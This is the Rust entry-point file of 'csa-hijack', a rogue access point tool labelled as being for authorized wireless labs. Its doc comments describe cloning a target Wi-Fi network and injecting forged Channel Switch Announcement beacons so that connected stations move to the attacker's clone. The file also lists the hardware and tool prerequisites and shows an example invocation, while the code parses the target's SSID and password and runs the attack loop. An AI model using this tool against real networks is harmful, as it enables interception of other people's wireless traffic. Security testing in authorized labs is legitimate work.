//! # csa-hijack
//!
//! Rogue-AP channel-switch attack tool for authorized wireless labs.
//!
//! Discovers the target network on one monitor-mode radio, clones its
//! identity onto a second radio running hostapd, then injects copies of the
//! target's own beacon carrying a Channel Switch Announcement so associated
//! stations retune to the rogue channel.
//!
//! ## Requirements
//!
//! | Prerequisite | Why |
//! |--------------|-----|
//! | root | raw capture/injection and interface reconfiguration |
//! | two monitor-capable radios + one AP-capable radio | listen, inject, and host the clone |
//! | `iw`, `iwconfig`, `ifconfig`, `macchanger`, `hostapd` | external command boundary |
//!
//! ## Example
//!
//! ```text
//! sudo csa-hijack wlan0mon wlan1mon wlan2 "TargetNet" password123
//! ```

mod attack;
mod dot11;
mod error;
mod link;
mod platform;
mod profile;
mod radiotap;

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use clap::Parser;

#[derive(Parser)]
#[command(name = "csa-hijack")]
#[command(version, about = "Clone a WiFi network and move its stations with forged CSA beacons")]
struct Cli {
    /// Wireless monitor interface that will listen on the channel of the target AP.
    nic_real_mon: String,

    /// Wireless monitor interface that will listen on the channel of the rogue (cloned) AP.
    nic_rogue_mon: String,

    /// Wireless interface that will run the rogue AP using hostapd.
    nic_rogue_ap: String,

    /// The SSID of the network to attack.
    ssid: String,

    /// The password of the network to attack.
    password: String,
}

fn main() {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info"))
        .format_timestamp_secs()
        .init();

    let cli = Cli::parse();

    let running = Arc::new(AtomicBool::new(true));
    {
        let running = Arc::clone(&running);
        ctrlc::set_handler(move || {
            log::info!("Interrupt received — shutting down …");
            running.store(false, Ordering::Relaxed);
        })
        .expect("Failed to set Ctrl-C handler");
    }

    let mut attack = attack::Attack::new(
        cli.nic_real_mon,
        cli.nic_rogue_mon,
        cli.nic_rogue_ap,
        cli.ssid,
        cli.password,
    );

    let outcome = attack.run(&running);
    attack.stop();
    log::debug!("final state: {:?}", attack.state());
    if let Err(e) = outcome {
        log::error!("Attack failed: {e}");
        std::process::exit(1);
    }
    log::info!("Done.");
}
